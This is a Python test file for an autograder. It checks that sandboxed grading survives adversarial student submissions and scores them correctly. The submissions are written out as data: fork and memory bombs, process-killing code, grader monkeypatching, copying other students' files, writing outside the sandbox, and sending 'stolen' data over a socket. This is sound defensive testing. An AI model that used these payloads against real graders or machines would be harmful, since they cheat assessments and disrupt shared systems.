"""Attacks on the grader and faults in student code, graded as one class at every isolation
level this machine can run.

Each attacker's submission must get exactly its expected score, the batch must complete,
the honest students' results must be byte-identical to a run without the attackers, and no
process of a submission may outlive the batch. An attack is graded only at the levels that
can stop it (reading other folders needs bubblewrap's namespaces, a memory bomb needs a
memory limit, a fork bomb a pids cgroup); elsewhere it is skipped with the reason.
"""
import os
import shutil
import socket
import textwrap
import threading
from pathlib import Path

import pytest

from autograder.classroom import grade_class
from autograder.isolation import Isolation, ProcessCap, bubblewrap_problem, has_posix_limits
from autograder.layout import REPO
from autograder.student import Limits

LEVELS_HERE = [level for level, works in (("bwrap", bubblewrap_problem() is None),
                                          ("rlimits", has_posix_limits()),
                                          ("process", True)) if works]
HAS_PROCESS_CAP = ProcessCap(8).path is not None
LIMITS = Limits(memory_bytes=2 * 1024**3)
FULL = 35
# softmax is graded by softmax.value and softmax.stability and used by predict_proba
# (LinearClassifier.predict): an attack inside softmax costs exactly these 3 points.
WITHOUT_SOFTMAX = FULL - 3
EVERY_LEVEL = {"bwrap", "rlimits", "process"}
WITH_LIMITS = {"bwrap", "rlimits"}  # memory, file size and CPU limits
BWRAP_ONLY = {"bwrap"}


def in_softmax(body):
    return "def softmax(scores):\n" + textwrap.indent(textwrap.dedent(body), "    ")


# name: (starting point, code appended to minidl/linear.py, exact score, levels where
# it is graded)
ATTACKS = {
    "hang": ("solved", in_softmax("while True:\n    pass\n"), WITHOUT_SOFTMAX, EVERY_LEVEL),
    "hang at import": ("solved", "while True:\n    pass\n", 0, EVERY_LEVEL),
    "exit at import": ("solved", "import os\nos._exit(0)\n", 0, EVERY_LEVEL),
    "exit in a call": ("solved", in_softmax("import os\nos._exit(3)\n"), WITHOUT_SOFTMAX,
                       EVERY_LEVEL),
    "SystemExit": ("solved", in_softmax("import sys\nsys.exit(0)\n"), WITHOUT_SOFTMAX,
                   EVERY_LEVEL),
    "memory bomb": ("solved", in_softmax("""
        hoard = []
        while True:
            hoard.append(bytearray(10**9))
        """), WITHOUT_SOFTMAX, WITH_LIMITS),
    "recursion bomb": ("solved", in_softmax("return softmax(scores)\n"), WITHOUT_SOFTMAX,
                       EVERY_LEVEL),
    "stdout flood, then a correct answer": ("solved", """
        _reference_softmax = softmax
        def softmax(scores):
            for _ in range(200_000):
                print("x" * 80)
            return _reference_softmax(scores)
        """, FULL, EVERY_LEVEL),
    "file flood": ("solved", in_softmax("""
        with open("flood.txt", "w") as out:
            while True:
                out.write("x" * 1_000_000)
        """), WITHOUT_SOFTMAX, WITH_LIMITS),
    "ignores SIGTERM and hangs": ("solved", in_softmax("""
        import signal
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True:
            pass
        """), WITHOUT_SOFTMAX, EVERY_LEVEL),
    "returns an object": ("solved", in_softmax("""
        class Sneaky:
            def __array__(self, dtype=None, copy=None):
                raise SystemExit
        return Sneaky()
        """), WITHOUT_SOFTMAX, EVERY_LEVEL),
    "forges replies": ("solved", in_softmax("""
        import os
        for fd in range(1, 20):
            try:
                os.write(fd, b'{"id": 1, "ok": 1.0}\\n')
            except OSError:
                pass
        return 0
        """), WITHOUT_SOFTMAX, EVERY_LEVEL),
    # Importing the grader is against numpy-only, so the module earns nothing at all.
    "imports the grader to patch it": ("buggy", """
        import autograder.compare, autograder.framework
        autograder.compare.is_close = lambda *args, **kwargs: True
        autograder.framework.Fail = Exception
        """, 0, EVERY_LEVEL),
    "uses PyTorch": ("solved", in_softmax("""
        import importlib
        torch = importlib.import_module("".join(["to", "rch"]))
        return torch.softmax(torch.tensor(scores), dim=1).numpy()
        """), WITHOUT_SOFTMAX, EVERY_LEVEL),
    "fork bomb": ("solved", in_softmax("""
        import os
        while True:
            os.fork()
        """), WITHOUT_SOFTMAX, EVERY_LEVEL),
    "kills its parent": ("solved", in_softmax("""
        import os, signal
        os.kill(os.getppid(), signal.SIGKILL)
        os.killpg(0, signal.SIGKILL)
        """), WITHOUT_SOFTMAX, EVERY_LEVEL),
    "kills the workers": ("solved", in_softmax("""
        import os, signal
        for pid in os.listdir("/proc"):
            try:
                if b"spawn_main" in open(f"/proc/{pid}/cmdline", "rb").read():
                    os.kill(int(pid), signal.SIGKILL)
            except (OSError, ValueError):
                pass
        return 0
        """), WITHOUT_SOFTMAX, EVERY_LEVEL),
    "detaches a process that lives on": ("solved", in_softmax("""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(3600)
            os._exit(0)
        return 0
        """), WITHOUT_SOFTMAX, EVERY_LEVEL),
    "copies the reference solution": ("release", f"""
        import glob
        for path in [{str(REPO / "solutions" / "minidl" / "linear.py")!r}]:
            try:
                exec(open(path).read().replace("from minidl._validate", "from minidl._validate"))
            except OSError:
                pass
        """, 0, BWRAP_ONLY),
    "copies another student's work": ("release", """
        import glob
        for path in glob.glob("/tmp/**/minidl/linear.py", recursive=True):
            text = open(path).read()
            if "NotImplementedError" not in text:
                exec(text)
                break
        """, 0, BWRAP_ONLY),
    "writes outside its folder": ("release", f"""
        for path in [{str(REPO / "gradebook-attack.txt")!r}, "/tmp/attack.txt"]:
            try:
                open(path, "w").write("owned")
            except OSError:
                pass
        """, 0, BWRAP_ONLY),
    "phones home": ("release", """
        import socket
        try:
            socket.create_connection(("127.0.0.1", PORT), timeout=1).sendall(b"stolen")
        except OSError:
            pass
        """, 0, BWRAP_ONLY),
}
# Without a pids cgroup nothing caps processes: a fork bomb would take the machine down.
if not HAS_PROCESS_CAP:
    del ATTACKS["fork bomb"]

BUGGY_L2 = "\ndef l2_penalty(W, reg):\n    return reg * (W ** 2).sum(), reg * W\n"


@pytest.fixture(scope="module")
def listener():
    """A loopback server that records anything a submission manages to send it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    received = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                connection, _ = server.accept()
                received.append(connection.recv(100))
            except OSError:
                continue

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


def make_folder(destination, start, extra, solved_a1, released_a1):
    source = released_a1 if start == "release" else solved_a1
    folder = shutil.copytree(source, destination, ignore=shutil.ignore_patterns("__pycache__"))
    linear = folder / "minidl" / "linear.py"
    addition = BUGGY_L2 if start == "buggy" else ""
    linear.write_text(linear.read_text() + addition + "\n" + textwrap.dedent(extra))
    return folder


def attacker_name(attack):
    return f"attacker-{list(ATTACKS).index(attack):02d}"


def sandbox_processes(batch):
    """Processes of the batch's sandboxes, found by the marker in their environment."""
    marker = f"AUTOGRADER_SANDBOX={batch}:".encode()
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if marker in Path(f"/proc/{pid}/environ").read_bytes():
                found.append(int(pid))
        except OSError:
            continue
    return found


@pytest.fixture(scope="module", params=LEVELS_HERE)
def graded(request, tmp_path_factory, solved_a1, released_a1, listener):
    """(level, baseline reports, everyone's reports, sandbox processes left afterwards)."""
    level = request.param
    port, _ = listener
    honest = tmp_path_factory.mktemp("honest")
    everyone = tmp_path_factory.mktemp("everyone")
    for root in (honest, everyone):
        make_folder(root / "honest-solved", "solved", "", solved_a1, released_a1)
        make_folder(root / "honest-buggy", "buggy", "", solved_a1, released_a1)
    for attack, (start, code, _, levels) in ATTACKS.items():
        if level in levels:
            make_folder(everyone / attacker_name(attack), start,
                        code.replace("PORT", str(port)), solved_a1, released_a1)
    isolation_level = Isolation(level)
    baseline = grade_class("a1_linear", honest, jobs=2, device="cpu", limits=LIMITS,
                           progress=False, isolation_level=isolation_level)
    batch = f"adversarial-{level}"
    reports = grade_class("a1_linear", everyone, jobs=2, device="cpu", limits=LIMITS,
                          progress=False, isolation_level=isolation_level, batch=batch)
    return level, baseline, reports, sandbox_processes(batch)


def test_honest_students_are_unaffected(graded):
    _, baseline, reports, _ = graded
    assert baseline["honest-solved"].score == FULL
    assert baseline["honest-buggy"].score == FULL - 6
    for student, report in baseline.items():
        assert reports[student].to_json() == report.to_json()


def test_no_process_of_a_submission_outlives_the_batch(graded):
    assert graded[3] == []


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_attack_gets_exactly_its_score(attack, graded, listener):
    level, _, reports, _ = graded
    start, _, expected, levels = ATTACKS[attack]
    if level not in levels:
        pytest.skip(f"at the {level} level nothing stops this attack; graded at "
                    f"{', '.join(sorted(levels))}")
    report = reports[attacker_name(attack)]
    assert report.score == expected, [(r.name, r.message) for r in report.results if not r.passed]
    assert not report.errors  # the student's doing, never the grader's
    messages = " ".join(result.message for result in report.results)
    if attack in ("imports the grader to patch it", "uses PyTorch"):
        assert "minidl must use numpy only" in messages
    if attack == "hang at import":
        assert "importing your minidl (minidl/linear.py) did not finish" in messages
    if attack == "writes outside its folder":
        assert not (REPO / "gradebook-attack.txt").exists()
    if attack == "phones home":
        assert listener[1] == []


def test_at_least_twelve_distinct_attacks():
    assert len(ATTACKS) >= 12
